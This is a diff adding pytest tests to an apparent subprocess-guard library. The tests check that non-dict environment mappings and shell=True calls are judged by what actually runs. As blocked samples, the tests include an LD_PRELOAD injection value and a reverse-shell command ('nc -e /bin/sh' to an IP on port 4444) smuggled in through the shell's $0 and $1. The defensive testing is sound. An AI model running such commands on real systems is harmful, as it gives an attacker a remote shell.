@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import asyncio
 from pathlib import Path
+from types import MappingProxyType
 from typing import Any
 
 import pytest
@@ -65,3 +66,25 @@ def test_subprocess_runs_allowed_commands_and_blocks_others(tmp_path: Path) -> N
 def test_public_facade_is_still_guard() -> None:
     assert corral.Guard is Guard
     assert "Guard" in corral.__all__ and "guarded" in corral.__all__
+
+
+def test_any_environment_mapping_is_judged() -> None:
+    env = MappingProxyType(  # a mapping that is not a dict, as os.environ is not
+        {"LD_PRELOAD": "/tmp/x.so"}
+    )
+    action = csub.action_for(["true"], {"env": env})
+    assert action["env"] == {"LD_PRELOAD": "/tmp/x.so"}
+
+
+def test_a_shell_call_is_judged_as_the_argv_popen_runs(tmp_path: Path) -> None:
+    csub.configure(GUARD)
+    marker = tmp_path / "marker"
+    assert csub.action_for("ls", {"shell": True, "executable": "/bin/bash"}) == {
+        "kind": "exec",
+        "argv": ["/bin/bash", "-c", "ls"],
+    }
+    # the script's $0 and $1 are the list's later items: the guard sees what they run
+    with pytest.raises(Blocked):
+        csub.run([f"touch {marker}; $0 $1", "nc", "-e /bin/sh 198.51.100.7 4444"], shell=True)
+    assert not marker.exists()
+    assert csub.run(["echo $0", "hi"], shell=True, capture_output=True).stdout == b"hi\n"
